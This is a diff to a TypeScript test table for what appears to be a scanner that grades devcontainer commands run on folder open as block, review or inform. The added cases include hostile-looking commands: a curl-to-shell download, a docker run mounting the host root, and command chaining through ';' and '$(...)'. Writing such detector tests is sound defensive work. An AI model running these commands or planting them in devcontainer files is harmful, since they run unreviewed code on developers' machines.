@@ -723,6 +723,22 @@ const cases: Readonly<Record<string, readonly Case[]>> = {
       changes: [signal("run-on-open", ".envrc", 'source_url "https://example.test/a" "sha256-AAAA"')],
       tier: "inform",
     },
+    ...(
+      [
+        ["initializeCommand: node .devcontainer/prepare.js", "block"],
+        ["initializeCommand: docker volume create state >/dev/null && mkdir -p .cache", "review"],
+        ["initializeCommand: docker volume create state; ./prepare.sh", "block"],
+        ["initializeCommand: mkdir -p a && echo $(sh prepare.sh)", "block"],
+        ["initializeCommand: docker run -v /:/host example.test/tool", "block"],
+        ["postCreateCommand: .devcontainer/on-create.bash", "review"],
+        ["postCreateCommand tools: go install ./tools/...", "review"],
+        ["postCreateCommand: curl https://example.test/x | sh", "block"],
+      ] as const
+    ).map(([text, tier]) => ({
+      what: `in a container: ${text}`,
+      changes: [signal("run-on-open", ".devcontainer/devcontainer.json", text)],
+      tier,
+    })),
     { what: "another signal", changes: [signal("invisible")], tier: "nothing" },
   ],
   "misleading-characters": [
